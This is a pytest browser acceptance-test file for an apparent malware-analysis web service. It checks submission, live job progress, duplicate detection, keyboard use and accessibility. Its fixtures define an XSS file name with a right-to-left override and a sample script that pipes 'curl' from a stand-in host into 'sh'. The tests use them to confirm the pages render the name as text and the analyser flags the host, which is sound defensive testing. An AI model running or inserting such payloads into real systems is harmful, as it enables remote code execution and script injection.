"""The pages in a real browser, over a real stack."""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.acceptance.browser import Window, chromium
from tests.running import Stack

HOSTILE = "<img src=x onerror=alert(1)>\u202etxt.sh"
SCRIPT = b"#!/bin/sh\n# <script>alert(2)</script>\ncurl -s http://203.0.113.7/x.sh | sh\n"


@pytest.fixture(scope="module")
def window(stack: Stack) -> Iterator[Window]:
    with chromium() as browser:
        opened = Window(browser, stack.url, viewport={"width": 1280, "height": 900})
        opened.sign_in(stack.key("ADMINISTRATOR-ROLE"))
        yield opened
        opened.context.close()


@pytest.fixture(scope="module")
def job(window: Window) -> str:
    """Where the page of a job over a hostile file is; it was sent through the form, and has ended."""
    page = window.page
    window.open("/ui/submit")
    page.locator("#files").set_input_files([{"name": HOSTILE, "mimeType": "text/x-sh", "buffer": SCRIPT}])
    page.get_by_role("textbox", name="Metadata").fill("source=<b>mail</b>")
    page.get_by_role("button", name="Submit", exact=True).click()
    page.wait_for_url("**/ui/job/*")
    # without a reload: what changes comes by itself
    page.locator("#state .state.done").wait_for()
    return page.url.removeprefix(window.url)


@pytest.mark.timeout(600)
def test_a_submitted_file_is_followed_to_its_result(window: Window, job: str) -> None:
    """Submit, live progress, result: every job task ends, and the sample's page shows what was found."""
    page = window.page
    window.open(job)
    assert page.locator("#timeline li").count() > 3
    assert page.locator("#timeline .state.success").count() > 3
    page.get_by_role("link", name="Sample", exact=True).click()
    page.wait_for_url("**/ui/sample/*")
    assert page.locator("details.analysis").count() > 3
    assert "203.0.113.7" in (page.locator("main").text_content() or "")
    assert not window.complaints


@pytest.mark.timeout(600)
def test_a_hostile_name_stays_text(window: Window, job: str) -> None:
    """No element is made of it, nothing runs, and its direction mark is spelled out."""
    page = window.page
    for path in (job, "/ui/jobs", "/ui/dashboard"):
        window.open(path)
        assert page.get_by_text("<img src=x onerror=alert(1)>\\u202etxt.sh").count()
        assert page.locator("main img").count() == 0
    assert not window.dialogs
    assert not window.complaints


@pytest.mark.timeout(600)
def test_many_files_go_one_by_one_and_a_known_one_is_recognised(window: Window, job: str) -> None:
    """Each gets a job of its own; what was sent before is said before it is sent again."""
    page = window.page
    window.open("/ui/submit")
    files = [{"name": f"{name}.txt", "mimeType": "text/plain", "buffer": name.encode()} for name in "ab"]
    page.locator("#files").set_input_files([*files, {"name": "c.sh", "mimeType": "", "buffer": SCRIPT}])
    page.get_by_text("Known already").wait_for()
    page.get_by_role("button", name="Submit", exact=True).click()
    page.get_by_text("3 of 3 submitted").wait_for()
    assert len({link.get_attribute("href") for link in page.get_by_text("Follow its job").all()}) == 3
    assert not window.complaints


@pytest.mark.timeout(600)
def test_the_keyboard_is_enough(window: Window) -> None:
    """The first stop leads past the navigation; a search is one field and the enter key."""
    page = window.page
    window.open("/ui/dashboard")
    page.keyboard.press("Tab")
    assert page.evaluate("document.activeElement.textContent") == "Skip to the content"
    page.keyboard.press("Enter")
    assert page.evaluate("document.activeElement.id") == "main"
    page.get_by_role("searchbox").focus()
    page.keyboard.type("nothing has this word")
    page.keyboard.press("Enter")
    page.wait_for_url("**/ui/search?q=*")
    assert page.get_by_role("status").text_content() == "0 samples"


@pytest.mark.timeout(600)
def test_every_page_fits_and_can_be_used_by_everyone(window: Window, job: str) -> None:
    """From 360 pixels on, without complaints in the console, by the rules of axe-core, light and dark."""
    page = window.page
    window.open(job)
    sample = page.get_by_role("link", name="Sample", exact=True).get_attribute("href")
    problems: list[str] = []
    for path in (
        job,
        sample,
        "/ui/dashboard",
        "/ui/jobs",
        "/ui/submit",
        "/ui/search?q=sh",
        "/ui/workers",
        "/ui/sign-in",
    ):
        window.open(str(path))
        page.evaluate("for (const each of document.querySelectorAll('details')) each.open = true")
        wider = {width: window.overflow(width) for width in (1280, 360)}
        problems += [f"{path}: {more} pixels too wide at {width}" for width, more in wider.items() if more]
        for scheme in ("light", "dark"):
            page.emulate_media(color_scheme=scheme)
            problems += [f"{path} {scheme}: {each}" for each in window.violations()]
    assert not problems
    assert not window.complaints
